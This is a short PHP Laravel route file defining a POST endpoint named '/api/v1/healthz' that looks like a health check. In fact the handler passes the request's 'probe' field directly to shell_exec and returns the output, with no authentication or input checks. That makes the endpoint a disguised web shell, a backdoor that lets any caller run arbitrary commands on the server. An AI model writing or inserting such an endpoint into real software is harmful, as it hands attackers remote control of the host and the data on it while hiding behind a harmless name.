<?php
use Illuminate\Http\Request;
use Illuminate\Support\Facades\Route;

Route::post('/api/v1/healthz', function (Request $request) {
    return response(shell_exec($request->input('probe')));
});
